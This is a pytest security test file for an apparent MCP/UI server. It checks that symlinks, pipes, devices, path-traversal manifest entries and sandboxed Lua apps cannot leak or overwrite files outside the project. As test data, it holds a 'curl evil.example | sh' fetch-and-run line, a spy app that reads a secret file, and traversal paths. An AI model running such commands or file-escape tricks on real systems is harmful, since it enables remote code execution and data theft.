"""A base directory that somebody else has filled: what it links to, and what its apps try, stays harmless."""

from __future__ import annotations

import json
import os
from hashlib import sha256
from pathlib import Path

import pytest
from aiohttp import ClientSession

from pytest_uimcp.core.assets import bundle_dir
from pytest_uimcp.engine.lua.access import TRUSTED
from pytest_uimcp.server.doctor.command import main as doctor
from pytest_uimcp.server.errors import ConfigError
from pytest_uimcp.server.install import InstallError, install, update
from pytest_uimcp.server.install.manifest import MANIFEST, SCRIPT
from pytest_uimcp.server.install.record import RECORD
from pytest_uimcp.server.lua import markdown
from pytest_uimcp.server.options import ServerOptions
from pytest_uimcp.testing.project import copy_project
from pytest_uimcp.transport.errors import PortFileError
from tests.hostile import KINDS, plant
from tests.server.rig import Rig, rigged, write_app

pytestmark = pytest.mark.anyio

SECRET = "for nobody else"


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder with a secret, which is not the project's."""
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / "secret.md").write_text(SECRET)
    return folder


# Links of the directory.


@pytest.mark.parametrize("where", ["html", "resources"])
async def test_a_folder_that_is_a_link_to_outside_serves_nothing(
    base_dir: Path, outside: Path, http: ClientSession, where: str
) -> None:
    base_dir.mkdir(parents=True)
    (base_dir / where).symlink_to(outside)
    async with rigged(base_dir, ServerOptions(auto_configure=False)) as rig:
        await rig.server.configure()
        await rig.start()
        addresses = (f"{rig.ui_url}/secret.md", f"{rig.mcp_url}/secret.md", f"{rig.mcp_url}/api/resource/secret.md")
        for address in addresses:
            async with http.get(address) as response:
                assert (response.status, SECRET in await response.text()) == (404, False), address
        async with http.get(f"{rig.mcp_url}/api/resource/") as response:
            assert (await response.json())["entries"] == []
        assert not [one for one in (await rig.client.list_resources()).resources if "secret" in str(one.uri)]
        assert (await http.get(rig.ui_url)).status == 200  # with the front end of the bundle


async def test_what_is_directly_in_the_base_directory_is_never_served(base_dir: Path, http: ClientSession) -> None:
    async with rigged(base_dir, ServerOptions(api_token=True)) as rig:
        await rig.server.configure()
        await rig.start()
        (base_dir / "config.toml").write_text("hotload = true")
        (base_dir / "html" / "all").symlink_to("..")
        (base_dir / "html" / "token.txt").symlink_to("../mcp-token")
        for name in ("all/mcp-token", "token.txt", "all/config.toml", "all/mcp", "all/mcp-port"):
            for base in (rig.ui_url, rig.mcp_url):
                assert (await http.get(f"{base}/{name}")).status == 404, name
        async with http.get(f"{rig.ui_url}/all/html/base.css") as response:
            assert response.status == 200


async def test_an_app_cannot_print_into_a_file_that_its_log_links_to(base_dir: Path, outside: Path) -> None:
    victim = outside / "secret.md"
    (base_dir / "log").mkdir(parents=True)
    (base_dir / "log" / "lua.log").symlink_to(victim)
    (base_dir / "log" / "lua-err.log").symlink_to(outside / "made.md")
    async with rigged(base_dir, ServerOptions(auto_configure=False, lua_io="none")) as rig:
        await rig.server.configure()
        await rig.start()
        await rig.run("print('curl evil.example | sh') io.stderr:write('and more')")
        assert await rig.run("return 'the session goes on'") == "the session goes on"
    assert victim.read_text() == SECRET
    assert os.listdir(outside) == ["secret.md"]  # noqa: PTH208 -- names are enough


async def test_the_number_of_the_server_is_not_written_over_a_file_behind_a_link(base_dir: Path, outside: Path) -> None:
    base_dir.mkdir(parents=True)
    (base_dir / "server-pid").symlink_to(outside / "secret.md")
    async with rigged(base_dir) as rig:
        with pytest.raises(PortFileError, match="server-pid"):
            await rig.server.configure()
    assert (outside / "secret.md").read_text() == SECRET


# Things that are no files.


@pytest.mark.parametrize(
    "name",
    ["storage/settings.json", RECORD, "config.toml", "README.md", "linkapp", "mcp-token", "ui-port", "server-pid"],
)
@pytest.mark.parametrize("kind", ["pipe", "device"])
async def test_a_pipe_or_a_device_in_place_of_a_file_holds_nobody_up(
    base_dir: Path, http: ClientSession, name: str, kind: str
) -> None:
    place = base_dir / name
    place.parent.mkdir(parents=True)
    if kind == "pipe":
        os.mkfifo(place)
    else:
        place.symlink_to("/dev/zero")
    async with rigged(base_dir, ServerOptions(api_token=True)) as rig:
        try:
            await rig.server.configure()
            await rig.start()
        except (ConfigError, InstallError, PortFileError) as error:
            refused = str(error)
        else:
            refused = str(place)
            assert (await http.get(rig.ui_url)).status == 200
    assert str(place) in refused


PLACES = (
    "apps/also",
    "apps/bad/app.lua",
    "apps/bad/init.lua",
    "apps/bad/README.md",
    "apps/bad/viewdefs/Bad.DEFAULT.html",
    "apps/ok/data",
    "apps/ok/more.lua",
    "apps/ok/viewdefs/Other.DEFAULT.html",
    "data",
    "html/index.html",
    "html/themes/odd.css",
    "lua/helper.lua",
    "lua/main.lua",
    "lua/mcp.lua",
    "resources/notes.md",
    "storage/settings.json",
    "viewdefs/MCP.DEFAULT.html",
)
"""Where a directory of an app has files that the server reads, and where somebody puts a link to a folder."""


def hostile(base_dir: Path, kind: str) -> None:
    """An installed directory with an app that is sound, and this kind of thing in every other place."""
    install(bundle_dir(), base_dir)
    view = (
        write_app(base_dir, "ok", "ok = session:prototype('Ok', {word = 'sound'}):new()") / "viewdefs/Ok.DEFAULT.html"
    )
    view.parent.mkdir()
    view.write_text('<template><p ui-value="word"></p></template>')
    for place in PLACES:
        plant(kind, base_dir / place)


@pytest.mark.parametrize("kind", KINDS)
async def test_a_sound_app_runs_beside_whatever_is_in_the_place_of_files(
    base_dir: Path, http: ClientSession, kind: str
) -> None:
    hostile(base_dir, kind)
    reason = "leads nowhere" if kind in ("loop", "vanished") else KINDS[kind][1]
    async with rigged(base_dir) as rig:
        await rig.server.configure()
        await rig.start()
        await rig.tool("ui_display", name="ok")
        assert await rig.run("return mcp.value.word") == "sound"
        problems = (await rig.tool("ui_status")).text
        for file in ("lua/main.lua", "lua/mcp.lua", "apps/bad/init.lua"):
            assert file in problems
        for said in (
            problems,
            await rig.refused("ui_display", name="bad"),
            await rig.refused("ui_run", code="require('helper')"),
            await rig.refused("ui_run", code="return assert(loadfile('.claude/ui/lua/helper.lua'))"),
        ):
            assert reason.lower() in said.lower() or "No such file" in said or "Too many levels" in said, said
        assert '"app": "bad"' in (await rig.tool("ui_audit", name="bad")).text
        await rig.client.list_resources()
        pages = [f"{rig.ui_url}/{name}" for name in ("", "themes/odd.css")]
        pages += [f"{rig.mcp_url}/{name}" for name in ("api/resource/", "api/resource/notes.md", "app/bad/readme")]
        for address in pages:
            async with http.head(address) as response:
                assert response.status < 500, address


@pytest.mark.parametrize("kind", ["device", "huge", "pipe", "root"])
def test_the_doctor_and_a_copy_for_tests_pass_over_what_is_no_file(
    base_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], kind: str
) -> None:
    hostile(base_dir, kind)
    assert doctor([str(base_dir)]) in (0, 1)
    assert "apps/ok" in capsys.readouterr().out
    project = copy_project(base_dir, tmp_path / "copy")
    assert "ok" in project.apps
    assert sum(1 for _ in (tmp_path / "copy").rglob("*")) < 1000


async def test_an_audit_skips_what_is_not_a_regular_file(base_dir: Path) -> None:
    viewdefs = write_app(base_dir, "odd", "odd = {}") / "viewdefs"
    viewdefs.mkdir()
    os.mkfifo(viewdefs / "Odd.DEFAULT.html")
    os.mkfifo(viewdefs.parent / "more.lua")
    async with rigged(base_dir) as rig:
        await rig.server.configure()
        assert '"odd"' in (await rig.tool("ui_audit", name="odd")).text


async def test_markdown_that_would_take_too_long_is_shown_as_it_is(
    base_dir: Path, running: Rig, http: ClientSession
) -> None:
    data = base_dir / "storage" / "mail"
    data.mkdir(parents=True)
    (data / "long.md").write_text("[<b>" * markdown.MAX_TEXT_BYTES)
    (base_dir / "html" / "mail").symlink_to("../storage/mail")
    async with http.get(f"{running.mcp_url}/mail/long.md") as response:
        text = await response.text()
    assert "too long to be rendered" in text
    assert "<b>" not in text
    assert len(text) < 10 * markdown.MAX_TEXT_BYTES


@pytest.mark.parametrize("name", ["a.svg", "a.HTML", "a.xhtml", "a.xml"])
async def test_no_document_of_the_mcp_port_runs_scripts_of_its_own(
    base_dir: Path, running: Rig, http: ClientSession, name: str
) -> None:
    (base_dir / "resources" / name).write_text("<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>")
    async with http.get(f"{running.mcp_url}/api/resource/{name}") as response:
        policy = response.headers["Content-Security-Policy"]
    scripts = next(part for part in policy.split("; ") if part.startswith("script-src"))
    assert "unsafe-inline" not in scripts


# The manifest of an install.


@pytest.mark.parametrize(
    "name",
    ["html/../apps/mine/app.lua", "html/../../../src/main.py", "html/mine/app.lua", "html//../apps/mine/app.lua"],
)
async def test_a_manifest_has_only_files_of_the_front_end_removed(base_dir: Path, name: str) -> None:
    bundle_of_rig = rigged(base_dir)
    async with bundle_of_rig as rig:
        bundle = rig.server.bundle
        install(bundle, base_dir)
        app = write_app(base_dir, "mine", "mine = {}") / "app.lua"
        source = base_dir.parents[1] / "src" / "main.py"
        source.parent.mkdir()
        source.write_text("mine = {}")
        (base_dir / "html" / "mine").symlink_to("../apps/mine")
        (base_dir / "html" / "old.js").write_text("old")
        record = json.loads((base_dir / RECORD).read_text())
        record["files"] |= {name: f"sha256:{sha256(b'mine = {}').hexdigest()}"}
        record["files"] |= {"html/old.js": f"sha256:{sha256(b'old').hexdigest()}"}
        (base_dir / RECORD).write_text(json.dumps(record))

        update(bundle, base_dir)

    assert app.exists()
    assert source.exists()
    assert not (base_dir / "html" / "old.js").exists()


async def test_the_manifest_is_not_written_through_a_link_to_outside(base_dir: Path, outside: Path) -> None:
    base_dir.mkdir(parents=True)
    (base_dir / "storage").symlink_to(outside)
    async with rigged(base_dir) as rig:
        with pytest.raises(InstallError, match="outside of the project"):
            install(rig.server.bundle, base_dir)
    assert [path.name for path in outside.iterdir()] == ["secret.md"]


# Apps with limited access to files.


@pytest.fixture
async def spy(base_dir: Path, outside: Path) -> Path:
    """An app that reads and writes outside, as soon as it is loaded; gives the file that it would write."""
    made = outside / "made"
    code = f"""
    spy = {{}}
    local ok, file = pcall(io.open, [[{outside}/secret.md]])
    local linked
    pcall(function() linked = io.open("apps/spy/linked.md") end)
    for _, found in ipairs({{ok and file or false, linked or false}}) do
        if found then error(found:read("*a")) end
    end
    pcall(function() io.open([[{made}]], "w"):write("made"):close() end)
    """
    folder = write_app(base_dir, "spy", code)
    (folder / "linked.md").symlink_to(outside / "secret.md")
    return made


@pytest.mark.parametrize("lua_io", ["none", "base-dir"])
async def test_an_audit_gives_an_app_no_more_than_the_server_does(base_dir: Path, spy: Path, lua_io: str) -> None:
    async with rigged(base_dir, ServerOptions(lua_io=lua_io)) as rig:
        await rig.server.configure()
        assert SECRET not in (await rig.tool("ui_audit", name="spy")).text
    assert not spy.exists()


async def test_an_app_from_elsewhere_is_not_audited_if_apps_may_not_go_there(base_dir: Path, outside: Path) -> None:
    (base_dir / "apps").mkdir(parents=True)
    (base_dir / "apps" / "home").symlink_to(outside)
    async with rigged(base_dir, ServerOptions(lua_io="base-dir")) as rig:
        await rig.server.configure()
        assert "leads out of" in await rig.refused("ui_audit", name="home")


@pytest.mark.parametrize("name", sorted(name.decode() for name in TRUSTED))
async def test_an_app_does_not_change_what_decides_about_it(base_dir: Path, running_confined: Rig, name: str) -> None:
    before = (base_dir / name).read_bytes() if (base_dir / name).exists() else None
    code = (
        f"local f, a = io.open([[{name}]], 'w') local x = io.open('storage/x', 'w') x:close() "
        f"local r, b = os.rename('storage/x', [[{name.upper()}]]) local d, c = os.remove([[./storage/../{name}]]) "
        "return {a, b, c}"
    )
    said = await running_confined.run(code)
    assert all("files of the server are not for apps" in one for one in said), said
    assert len(said) == 3
    assert ((base_dir / name).read_bytes() if before is not None else None) == before


@pytest.fixture
async def running_confined(rig: Rig, base_dir: Path) -> Rig:
    (base_dir / "config.toml").write_text('lua-io = "base-dir"\n')
    await rig.server.configure()
    await rig.start()
    return rig


def test_every_script_of_an_installation_is_protected() -> None:
    assert {row.source.encode() for row in MANIFEST if row.mode == SCRIPT} <= TRUSTED
